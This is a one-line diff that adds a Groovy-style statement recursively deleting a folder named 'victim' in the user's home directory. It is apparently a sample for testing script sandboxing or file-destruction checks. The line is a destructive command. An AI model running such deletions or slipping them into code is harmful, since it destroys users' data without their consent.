@@ -1,0 +1,1 @@
+new File(System.getProperty("user.home") + "/victim").deleteDir()
